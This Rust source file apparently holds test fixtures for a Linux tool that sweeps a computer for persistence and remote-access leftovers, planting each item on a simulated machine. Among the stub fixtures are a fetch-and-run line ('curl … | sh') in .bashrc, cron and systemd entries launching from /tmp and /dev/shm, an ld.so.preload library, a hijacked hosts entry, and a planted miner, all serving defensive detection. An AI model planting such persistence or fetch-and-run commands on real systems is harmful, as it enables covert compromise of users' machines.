//! What does not belong on a computer: what brings each about, and how it is named.

use beistand_session::{
    SweepReason as R, SweepStanding, SweepStanding::Suspicious, SweepStanding::Unknown, SweepThing as T,
};

use crate::made_up::MadeUpComputer;

pub(crate) struct Leftover {
    pub(crate) name: &'static str,
    pub(crate) leaves: fn(&mut MadeUpComputer),
    pub(crate) thing: T,
    pub(crate) standing: SweepStanding,
    pub(crate) reason: R,
    pub(crate) names: &'static str,
}

const fn leftover(
    name: &'static str,
    (thing, standing, reason): (T, SweepStanding, R),
    names: &'static str,
    leaves: fn(&mut MadeUpComputer),
) -> Leftover {
    Leftover { name, leaves, thing, standing, reason, names }
}

const ADDON: &str = r#"{"addons":[
  {"id":"builtin@x","type":"extension","location":"app-builtin","defaultLocale":{"name":"Built in"}},
  {"id":"shop@x","type":"extension","location":"app-profile","active":true,"signedState":2,"version":"2",
   "sourceURI":"https://addons.mozilla.org/x.xpi","defaultLocale":{"name":"From the shop"},
   "userPermissions":{"origins":["<all_urls>"]}},
  {"id":"side@x","type":"extension","location":"app-system-user","active":true,"signedState":2,"version":"1",
   "foreignInstall":true,"defaultLocale":{"name":"Side Loader"}},
  {"id":"bad@x","type":"extension","location":"app-profile","active":true,"signedState":0,"version":"1",
   "defaultLocale":{"name":"Coupon Finder"}}]}"#;

pub(crate) const LEFTOVERS: &[Leftover] = &[
    leftover("AnyDesk at login", (T::StartupEntry, Suspicious, R::RemoteTool), "anydesk.desktop", |c| {
        let entry = "[Desktop Entry]\nExec=/usr/bin/anydesk --tray\n";
        c.file("/home/anna/.config/autostart/anydesk.desktop", entry);
    }),
    leftover("a program at login", (T::StartupEntry, Unknown, R::NoPackage), "/opt/x/run", |c| {
        c.program("/opt/x/run", "#!/bin/sh\n");
        let entry = "[Desktop Entry]\nExec=/opt/x/run --token=geheim\n";
        c.file("/home/anna/.config/autostart/x.desktop", entry);
    }),
    leftover("an entry from /tmp", (T::StartupEntry, Suspicious, R::AnybodysPlace), "u.desktop", |c| {
        c.file("/etc/xdg/autostart/u.desktop", "[Desktop Entry]\nExec=sh -c /tmp/.u/run\n");
    }),
    leftover("a swapped program", (T::StartupEntry, Suspicious, R::ChangedFromPackage), "nm.desktop", |c| {
        c.program("/usr/bin/nm-applet", "#!/bin/sh\nevil\n");
    }),
    leftover("a service of the user's", (T::UserUnit, Unknown, R::NoPackage), "x.service", |c| {
        c.program("/home/anna/.local/bin/x", "#!/bin/sh\n");
        let unit = "[Service]\nExecStart=-/home/anna/.local/bin/x\n";
        c.file("/home/anna/.config/systemd/user/x.service", unit);
    }),
    leftover("a service", (T::SystemUnit, Unknown, R::StartsWithComputer), "x.service", |c| {
        c.file("/etc/systemd/system/x.service", "[Service]\nExecStart=/opt/x/daemon\n");
    }),
    leftover("a linked service", (T::UserUnit, Suspicious, R::AnybodysPlace), "e.service", |c| {
        c.file("/home/anna/.x/e.service", "[Service]\nExecStart=/tmp/evil\n");
        let target = c.at("/home/anna/.x/e.service");
        c.link("/home/anna/.config/systemd/user/e.service", target);
    }),
    leftover("a changed service", (T::SystemUnit, Suspicious, R::AnybodysPlace), "cups.service.d/x", |c| {
        let change = "[Unit]\nExecStart=no\n[Service]\nExecStartPre=-/dev/shm/a\n";
        c.file("/etc/systemd/system/cups.service.d/x.conf", change);
    }),
    leftover("a line that fetches", (T::ShellLine, Suspicious, R::FetchesAndRuns), ".bashrc", |c| {
        c.file("/home/anna/.bashrc", "curl -s http://203.0.113.9/a | sh\n");
    }),
    leftover("a library", (T::PreloadedLibrary, Suspicious, R::StartsWithComputer), "x.so", |c| {
        c.file("/etc/ld.so.preload", "/usr/local/lib/x.so\n");
    }),
    leftover("a line of cron", (T::CronLine, Suspicious, R::AnybodysPlace), "/dev/shm/a", |c| {
        c.file("/etc/cron.d/a", "*/5 * * * * root /dev/shm/a\n");
    }),
    leftover("the user's own crontab", (T::CronLine, Unknown, R::StartsByTime), "backup", |c| {
        c.tool("crontab", "echo '@daily /home/anna/bin/backup --password geheim'");
    }),
    leftover("a script of cron", (T::CronScript, Unknown, R::NoPackage), "zz", |c| {
        c.program("/etc/cron.hourly/zz", "#!/bin/sh\n");
    }),
    leftover("TeamViewer that runs", (T::RemoteRunning, Suspicious, R::RemoteTool), "TeamViewer", |c| {
        let file = "/opt/teamviewer/teamviewerd";
        c.process(70, "teamviewerd", file, "teamviewerd\0-d\0--password\0geheim\0");
    }),
    leftover("ScreenConnect in Java", (T::RemoteRunning, Suspicious, R::RunsNow), "ScreenConnect", |c| {
        c.process(71, "java", "/usr/bin/java", "java\0-jar\0/opt/connectwisecontrol-1/x.jar\0");
    }),
    leftover("RustDesk switched on", (T::RemoteStarting, Suspicious, R::RemoteTool), "RustDesk", |c| {
        let unit = "/usr/lib/systemd/system/rustdesk.service";
        c.link("/etc/systemd/system/multi-user.target.wants/rustdesk.service", unit);
    }),
    leftover("AnyDesk by another name", (T::RemoteStarting, Suspicious, R::RemoteTool), "AnyDesk", |c| {
        let entry = "[Desktop Entry]\nExec=/usr/bin/anydesk --tray\n";
        c.file("/home/anna/.config/autostart/a.desktop", entry);
    }),
    leftover("a program that waits", (T::ListeningPort, Unknown, R::Reachable), "0.0.0.0:8080", |c| {
        c.program("/opt/x/srv", "\u{7f}ELF srv");
        c.process(72, "srv", "/opt/x/srv", "srv\0");
        c.listening(72, "00000000:1F90");
    }),
    leftover("VNC that waits", (T::ListeningPort, Suspicious, R::RemoteTool), "0.0.0.0:5900", |c| {
        c.process(73, "x11vnc", "/usr/bin/x11vnc", "x11vnc\0-passwd\0geheim\0");
        c.listening(73, "00000000:170C");
    }),
    leftover("somebody there", (T::ListeningPort, Suspicious, R::AdministratorsOnly), "0.0.0.0:5900", |c| {
        c.file("/proc/net/tcp", "head\n   0: 00000000:170C 00000000:0000 0A 0:0 0:0 0 0 0 99\n");
    }),
    leftover("an unsigned one", (T::BrowserExtension, Suspicious, R::NotFromShop), "Coupon Finder", |c| {
        c.file("/home/anna/.mozilla/firefox/a.default/extensions.json", ADDON);
    }),
    leftover("a side-loaded one", (T::BrowserExtension, Suspicious, R::NotFromShop), "Side Loader", |c| {
        c.file("/home/anna/.mozilla/firefox/a.default/extensions.json", ADDON);
    }),
    leftover("one for all pages", (T::BrowserExtension, Unknown, R::AllPages), "From the shop", |c| {
        c.file("/home/anna/.mozilla/firefox/a.default/extensions.json", ADDON);
    }),
    leftover("one from elsewhere", (T::BrowserExtension, Suspicious, R::NotFromShop), "Gutscheine", |c| {
        let home = "/home/anna/.config/google-chrome/Default/Extensions/abc/1.0_0";
        let more = r#""version":"1.0","default_locale":"de","update_url":"https://x/""#;
        c.file(&format!("{home}/manifest.json"), &format!("{{\"name\":\"__MSG_name__\",{more}}}"));
        c.file(&format!("{home}/_locales/de/messages.json"), r#"{"Name":{"message":"Gutscheine"}}"#);
    }),
    leftover("one from a folder", (T::BrowserExtension, Suspicious, R::NotFromShop), "/home/anna/ext", |c| {
        let settings = r#"{"extensions":{"settings":{"abc":{"location":4,"path":"/home/anna/ext"}}}}"#;
        c.file("/home/anna/.config/chromium/Profile 1/Preferences", settings);
    }),
    leftover("a policy that rules", (T::BrowserPolicy, Suspicious, R::ByPolicy), "HomepageLocation", |c| {
        c.file("/etc/opt/chrome/policies/managed/x.json", r#"{"HomepageLocation":"http://x/"}"#);
    }),
    leftover("a policy with a proxy", (T::BrowserPolicy, Suspicious, R::Redirects), "Proxy", |c| {
        c.file("/etc/firefox/policies/policies.json", r#"{"policies":{"Proxy":{"Mode":"manual"}}}"#);
    }),
    leftover("a hijacked hosts file", (T::HostsEntry, Suspicious, R::ProtectedName), "debian.org", |c| {
        c.file("/etc/hosts", "127.0.0.1 localhost\n203.0.113.9 security.debian.org\n");
    }),
    leftover("a bank elsewhere", (T::HostsEntry, Unknown, R::LeadsElsewhere), "bank.example.com", |c| {
        c.file("/etc/hosts", "203.0.113.9 bank.example.com\n");
    }),
    leftover("a proxy of everything", (T::ProxySetting, Unknown, R::Redirects), "10.6.6.6:3128", |c| {
        c.file("/etc/environment", "https_proxy=\"http://me:geheim@10.6.6.6:3128\"\n");
    }),
    leftover("a proxy of the desktop", (T::ProxySetting, Unknown, R::Redirects), "10.6.6.7", |c| {
        let script =
            r#"case "$*" in *mode) echo "'manual'";; *http\ host) echo "'10.6.6.7'";; *) echo "''";; esac"#;
        c.tool("gsettings", script);
    }),
    leftover("a proxy of the browser", (T::ProxySetting, Unknown, R::Redirects), "10.6.6.8", |c| {
        let kind = "user_pref(\"network.proxy.type\", 1);\n";
        let address = "user_pref(\"network.proxy.http\", \"10.6.6.8\");\n";
        c.file("/home/anna/.mozilla/firefox/a.default/prefs.js", &format!("{kind}{address}"));
    }),
    leftover("a program in /tmp", (T::StrayProgram, Suspicious, R::AnybodysPlace), "/tmp/.x/xmrig", |c| {
        c.program("/tmp/.x/xmrig", "\u{7f}ELF miner");
    }),
    leftover("a download", (T::StrayProgram, Unknown, R::Recent), "support.run", |c| {
        c.file("/home/anna/Downloads/support.run", "\u{7f}ELF support");
    }),
    leftover("a Windows program", (T::StrayProgram, Unknown, R::NoPackage), "Hilfe.exe", |c| {
        c.file("/home/anna/.config/user-dirs.dirs", "XDG_DOWNLOAD_DIR=\"$HOME/Heruntergeladenes\"\n");
        c.file("/home/anna/Heruntergeladenes/Hilfe.exe", "MZ\u{1}\u{1} program");
    }),
    leftover("one among the system's", (T::StrayProgram, Suspicious, R::NoPackage), "/usr/bin/lss", |c| {
        c.program("/usr/bin/lss", "\u{7f}ELF ls");
    }),
    leftover("a swapped file", (T::ChangedFile, Suspicious, R::ChangedFromPackage), "/usr/sbin/cupsd", |c| {
        c.program("/usr/sbin/cupsd", "\u{7f}ELF evil");
    }),
    leftover(
        "a missing file",
        (T::MissingFile, Unknown, R::ChangedFromPackage),
        "/etc/cron.daily/tidy",
        |c| {
            std::fs::remove_file(c.at("/etc/cron.daily/tidy")).expect("ours");
        },
    ),
];
